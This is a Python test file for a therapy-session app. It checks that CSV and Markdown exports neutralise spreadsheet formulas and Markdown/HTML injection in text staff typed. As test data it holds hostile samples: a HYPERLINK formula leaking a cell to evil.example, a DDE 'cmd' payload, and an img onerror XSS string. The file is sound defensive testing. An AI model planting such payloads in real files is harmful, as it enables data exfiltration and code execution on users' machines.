"""Text staff typed cannot act in an export: no formula runs from the CSV in a spreadsheet, and
the Markdown note gets no heading, link, image, HTML or table from it. A real session holds the
hostile names and notes; the CSV is read back with the csv module, the Markdown parsed by a
CommonMark parser (markdown-it, with GitHub's tables)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

from markdown_it import MarkdownIt
from markdown_it.token import Token

from kapsession.export.csv_export import events_csv, observations_csv
from kapsession.export.text import to_markdown
from kapsession.services.context import AppContext
from kapsession.services.export_content import gather
from kapsession.services.session_service import session_protocol
from kapsession.storage.notes import NoteRepository

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_NOTE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
MARKDOWN_NOTE = (
    "# Injected heading\n"
    "Setext heading\n"
    "===\n"
    "[a link](https://evil.example/steal) and ![an image](https://evil.example/pixel.png)\n"
    "<img src=x onerror=alert(1)> <a href='https://evil.example'>html</a>\n"
    "<https://evil.example/autolink> https://evil.example/bare www.evil.example mail@evil.example\n"
    "[ref]: https://evil.example/reference\n"
    "see [ref]\n"
    "| col | umn |\n"
    "| --- | --- |\n"
    "| a | b |\n"
    "\\[escaped](https://evil.example/escaped) \\<img src=y onerror=alert(2)>"
)
LIVE_KINDS = {"link_open", "image", "html_inline", "html_block", "table_open", "heading_open"}


def _hostile_session(context: AppContext) -> tuple[uuid.UUID, str]:
    """A finished session of a client and staff with formula-like names, holding hostile notes,
    a marker and a reading's comment; its id and the client's name as a CSV row shows it."""
    service, now = context.service, context.clock.now()
    client = service.add_client("@SUM(1+1)", "-2+3", at=now, record_number="+KAP-1")
    therapist = service.add_staff("=1+1 Ruth", "therapist", at=now)
    nurse = service.add_staff("+Tom", "nurse", at=now)
    record = service.start_session(
        protocol_key="sublingual-kap-3h",
        client_ids=[client.id],
        modality="individual",
        at=now - timedelta(hours=3),
        room="=Room",
        therapist_id=therapist.id,
        nurse_id=nurse.id,
        by=therapist.id,
    )
    pid = record.participants[0].id
    at = now - timedelta(hours=2)
    notes = NoteRepository(service.database)
    notes.add_entry(record.id, FORMULA_NOTE, occurred_at=at, recorded_at=at, by=therapist.id)
    notes.add_entry(record.id, MARKDOWN_NOTE, occurred_at=at, recorded_at=at, by=therapist.id)
    service.add_marker(record.id, "-cmd|' /C calc'!A0", at=at, recorded_at=at, by=therapist.id)
    reading = {"heart_rate_bpm": "72", "spo2_pct": "98", "comment": "@risk\tcheck"}
    service.checkins.save_checkin(
        record.id, pid, reading, occurred_at=at, recorded_at=at, by=nurse.id
    )
    dose_at = now - timedelta(hours=1)  # after the entries: their T+ times are negative
    dosing = session_protocol(record).dosing  # a dose row as stored: the export reads it
    service.entries.add_dose(
        record.id, pid, occurred_at=dose_at, recorded_at=dose_at,
        medication=dosing.medication.value, route=dosing.route.value,
    )  # fmt: skip
    service.end_session(record.id, at=now - timedelta(minutes=1), by=therapist.id)
    return record.id, "@SUM(1+1) -2+3"


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula_and_the_text_is_still_there(demo_copy: AppContext) -> None:
    # Given a session whose client, staff, room, notes, marker and comment look like formulas
    session_id, _client = _hostile_session(demo_copy)
    content = gather(demo_copy.service.database, session_id)
    # When both CSV files are written and read back with the csv module
    rows = [*_cells(observations_csv(content)), *_cells(events_csv(content))]
    # Then no cell starts with a formula character, but numbers (negative ones too)
    cells = [value for row in rows for value in row.values() if value]
    starting = [v for v in cells if v.startswith(FORMULA_STARTS) and not _is_number(v)]
    assert starting == []
    # And the text is all there, behind a single quote
    assert f"'{FORMULA_NOTE}" in cells
    assert "'-cmd|' /C calc'!A0" in cells
    assert "'@risk\tcheck" in cells
    # And a negative number in a numeric column stays a number
    negative = [r["since_first_dose_s"] for r in rows if r["since_first_dose_s"].startswith("-")]
    assert negative and all(_is_number(v) for v in negative)


def _live(tokens: list[Token]) -> list[tuple[str, str]]:
    """Every token, nested ones included, that makes structure or a live link."""
    found = []
    for token in tokens:
        if token.type in LIVE_KINDS:
            found.append((token.type, token.content or str(token.attrs)))
        if token.children:
            found.extend(_live(token.children))
    return found


def test_the_markdown_note_holds_no_heading_link_image_html_or_table_from_the_text(
    demo_copy: AppContext,
) -> None:
    # Given the same session, and the Markdown of it
    session_id, _client = _hostile_session(demo_copy)
    md = to_markdown(gather(demo_copy.service.database, session_id))
    # When it is parsed as CommonMark with tables
    parser = MarkdownIt("commonmark").enable("table")
    tokens = parser.parse(md)
    # Then the only structure is the export's own: its headings and tables, no link, image
    # or HTML at all
    live = _live(tokens)
    assert [kind for kind, _ in live if kind in {"link_open", "image", "html_inline"}] == []
    assert [kind for kind, _ in live if kind == "html_block"] == []
    headings = [t for t in tokens if t.type == "heading_open"]
    titles = [tokens[tokens.index(h) + 1].content for h in headings]
    assert not any("Injected" in t or "Setext" in t for t in titles), titles
    for table in [t for t in tokens if t.type == "table_open"]:
        header = tokens[tokens.index(table) + 3 : tokens.index(table) + 6]
        assert "col" not in [t.content for t in header if t.type == "inline"]
    # And GitHub's own links (bare URLs, www., e-mail) find nothing to link: no bare URL,
    # www. or address is left unescaped
    html = parser.render(md)
    assert "evil.example" in html and "<a " not in html and "<img" not in html
    assert "https://" not in md and "www.evil" not in md and "mail@evil" not in md
    # And the note reads as typed once rendered
    assert "[a link](https://evil.example/steal)" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
